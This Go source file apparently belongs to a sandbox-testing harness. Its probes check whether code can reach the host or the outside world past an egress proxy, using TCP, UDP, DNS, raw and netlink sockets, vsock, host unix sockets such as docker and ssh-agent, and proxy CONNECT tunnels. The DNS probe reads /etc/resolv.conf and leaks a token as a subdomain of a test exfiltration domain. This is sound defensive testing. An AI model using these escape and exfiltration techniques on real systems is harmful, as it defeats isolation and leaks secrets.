package main

// Network attacks: reaching the host or the outside world other than
// through the egress proxy, and host services over unix sockets.

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func init() {
	register("tcp", attackTCP)
	register("udp", attackUDP)
	register("dns", attackDNS)
	register("af-packet", attackAFPacket)
	register("netlink", attackNetlink)
	register("vsock", attackVsock)
	register("unix", attackUnix)
	register("http", attackHTTP)
	register("proxy-connect", attackProxyConnect)
}

func attackTCP(p params) {
	var errs []string
	for _, addr := range strings.Split(p.get("addrs"), ",") {
		c, err := net.DialTimeout("tcp", addr, 3*time.Second)
		if err != nil {
			errs = append(errs, err.Error())
			continue
		}
		fmt.Fprintf(c, "%s\n", p.get("token"))
		c.SetReadDeadline(time.Now().Add(3 * time.Second))
		reply, _ := bufio.NewReader(c).ReadString('\n')
		c.Close()
		escaped("TCP connection to %s, sent token, server said %q", addr, strings.TrimSpace(reply))
	}
	blocked("%s", strings.Join(errs, "; "))
}

func attackUDP(p params) {
	addr := p.get("addr")
	c, err := net.Dial("udp", addr)
	if err != nil {
		blocked("udp dial %s: %v", addr, err)
	}
	if _, err := c.Write([]byte(p.get("token"))); err != nil {
		blocked("udp send to %s: %v", addr, err)
	}
	c.SetReadDeadline(time.Now().Add(3 * time.Second))
	buf := make([]byte, 512)
	n, err := c.Read(buf)
	if err != nil {
		blocked("udp datagram to %s got no answer: %v", addr, err)
	}
	escaped("UDP datagram to %s answered: %s", addr, short(buf[:n]))
}

// dnsQuery builds a query for an A record of name.
func dnsQuery(id uint16, name string) []byte {
	q := make([]byte, 12)
	binary.BigEndian.PutUint16(q[0:], id)
	binary.BigEndian.PutUint16(q[2:], 0x0100) // recursion desired
	binary.BigEndian.PutUint16(q[4:], 1)
	for _, label := range strings.Split(name, ".") {
		q = append(q, byte(len(label)))
		q = append(q, label...)
	}
	return append(q, 0, 0, 1, 0, 1)
}

// attackDNS sends a query whose name carries the secret to every resolver
// it can find; any answer means the name left the sandbox.
func attackDNS(p params) {
	servers := strings.Split(p.get("servers"), ",")
	if rc, err := os.ReadFile("/etc/resolv.conf"); err == nil {
		for _, line := range strings.Split(string(rc), "\n") {
			if f := strings.Fields(line); len(f) == 2 && f[0] == "nameserver" {
				servers = append(servers, net.JoinHostPort(f[1], "53"))
			}
		}
	}
	name := p.get("token") + ".exfil.airlock.test"
	var errs []string
	for i, s := range servers {
		c, err := net.Dial("udp", s)
		if err != nil {
			errs = append(errs, err.Error())
			continue
		}
		id := uint16(0x4a00 + i)
		c.Write(dnsQuery(id, name))
		c.SetReadDeadline(time.Now().Add(2 * time.Second))
		buf := make([]byte, 512)
		n, err := c.Read(buf)
		c.Close()
		if err == nil && n >= 2 && binary.BigEndian.Uint16(buf) == id {
			escaped("DNS query for %s reached %s and was answered", name, s)
		}
		errs = append(errs, s+": "+fmt.Sprint(err))
	}
	blocked("%s", strings.Join(errs, "; "))
}

func attackAFPacket(params) {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0x0300)
	if err != nil {
		blocked("socket(AF_PACKET): %v", err)
	}
	unix.Close(fd)
	ifs, _ := net.Interfaces()
	var names []string
	for _, i := range ifs {
		names = append(names, i.Name)
	}
	escaped("opened a raw AF_PACKET socket (interfaces: %s)", strings.Join(names, ","))
}

func attackNetlink(p params) {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE)
	if err != nil {
		blocked("socket(AF_NETLINK): %v", err)
	}
	unix.Close(fd)
	ifs, err := net.Interfaces()
	if err != nil {
		blocked("netlink socket opened but dump refused: %v", err)
	}
	var names []string
	for _, i := range ifs {
		names = append(names, i.Name)
		if i.Name == p.get("iface") {
			escaped("netlink shows the host interface %s (all: %v)", i.Name, names)
		}
	}
	blocked("netlink only shows the sandbox's own interfaces: %v", names)
}

func attackVsock(params) {
	fd, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
	if err != nil {
		blocked("socket(AF_VSOCK): %v", err)
	}
	defer unix.Close(fd)
	err = unix.Connect(fd, &unix.SockaddrVM{CID: unix.VMADDR_CID_HOST, Port: 1})
	escaped("opened an AF_VSOCK socket, which no network namespace confines (connect to host CID: %v)", err)
}

// attackUnix connects to host unix sockets (docker, ssh-agent, D-Bus,
// abstract names starting with @).
func attackUnix(p params) {
	var errs []string
	for _, path := range strings.Split(p.get("paths"), ",") {
		c, err := net.DialTimeout("unix", path, 3*time.Second)
		if err != nil {
			errs = append(errs, err.Error())
			continue
		}
		c.SetReadDeadline(time.Now().Add(2 * time.Second))
		buf := make([]byte, 128)
		n, _ := c.Read(buf)
		c.Close()
		escaped("connected to host socket %s (it said %s)", path, short(buf[:n]))
	}
	blocked("%s", strings.Join(errs, "; "))
}

// attackHTTP calls an HTTP API (the server's own) from inside.
func attackHTTP(p params) {
	var errs []string
	tr := &http.Transport{Proxy: nil}
	if px := p["proxy"]; px != "" {
		u, err := url.Parse(px)
		if err != nil {
			fail("proxy %q: %v", px, err)
		}
		tr.Proxy = http.ProxyURL(u)
	}
	cl := &http.Client{Timeout: 5 * time.Second, Transport: tr}
	for _, target := range strings.Split(p.get("urls"), ",") {
		req, _ := http.NewRequest(p.get("method"), target, strings.NewReader(p["body"]))
		req.Header.Set("Content-Type", "application/json")
		resp, err := cl.Do(req)
		if err != nil {
			errs = append(errs, err.Error())
			continue
		}
		b, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
		resp.Body.Close()
		if resp.StatusCode/100 != 2 {
			errs = append(errs, fmt.Sprintf("%s %s: %s %s", p["method"], target, resp.Status, short(b)))
			continue
		}
		escaped("%s %s answered %d: %s", p["method"], target, resp.StatusCode, short(b))
	}
	blocked("%s", strings.Join(errs, "; "))
}

func attackProxyConnect(p params) {
	proxy, target := p.get("proxy"), p.get("target")
	c, err := net.DialTimeout("tcp", proxy, 3*time.Second)
	if err != nil {
		blocked("dial proxy %s: %v", proxy, err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
	br := bufio.NewReader(c)
	status, err := br.ReadString('\n')
	if err != nil {
		blocked("proxy %s closed the CONNECT to %s: %v", proxy, target, err)
	}
	if !strings.Contains(status, " 200") {
		blocked("proxy refused CONNECT %s: %s", target, strings.TrimSpace(status))
	}
	for {
		line, err := br.ReadString('\n')
		if err != nil || line == "\r\n" {
			break
		}
	}
	fmt.Fprintf(c, "%s\n", p.get("token"))
	reply, _ := br.ReadString('\n')
	if !strings.Contains(strings.ToLower(reply), "ok") {
		blocked("CONNECT %s accepted but nothing came back (%q)", target, reply)
	}
	escaped("tunnelled to %s through the proxy, server said %q", target, strings.TrimSpace(reply))
}
